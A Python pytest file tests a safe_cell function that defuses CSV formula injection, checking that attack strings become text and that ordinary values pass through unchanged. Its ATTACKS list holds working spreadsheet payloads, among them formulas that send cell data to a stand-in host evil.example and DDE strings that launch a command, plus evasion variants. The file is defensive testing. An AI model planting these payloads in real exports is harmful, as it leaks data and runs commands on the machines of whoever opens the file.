"""What somebody typed into a form is never a formula in the spreadsheet of whoever exports it."""

from __future__ import annotations

import csv
import io

import pytest

from core.text.csv_cells import safe_cell

pytestmark = pytest.mark.security("CSV injection")

_STARTS = ("=", "+", "-", "@", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20")
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
    "%0A-3+3",
    "-1+1",
    "+491721234567+A1",
    '"=1+1"',
    "'=1+1",
    "   =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    '"\t=1+1',
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0=1+1",
    "\x00=1+1",
    "\tplain after a tab",
    "\rplain after a return",
    "\nplain after a break",
    *(f"{start}A1" for start in _STARTS),
    *(f' "{start}A1' for start in _STARTS),
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_becomes_text(attack: str) -> None:
    assert safe_cell(attack) == f"'{attack}"


@pytest.mark.parametrize("attack", ATTACKS)
def test_it_stays_text_through_a_csv_file(attack: str) -> None:
    out = io.StringIO(newline="")
    csv.writer(out, quoting=csv.QUOTE_ALL).writerow(["before", safe_cell(attack), "after"])
    (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert len(row) == 3
    assert row[1].startswith("'")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Nordwind Trading", "Nordwind Trading"),
        ("ada.berg@example.com", "ada.berg@example.com"),
        ("a = b", "a = b"),
        ("", ""),
        (None, ""),
        (-12, "-12"),
        ("-12.50", "-12.50"),
        (0, "0"),
        ("2026-11-24", "2026-11-24"),
    ],
)
def test_what_is_no_formula_stays(value: object, cell: str) -> None:
    assert safe_cell(value) == cell
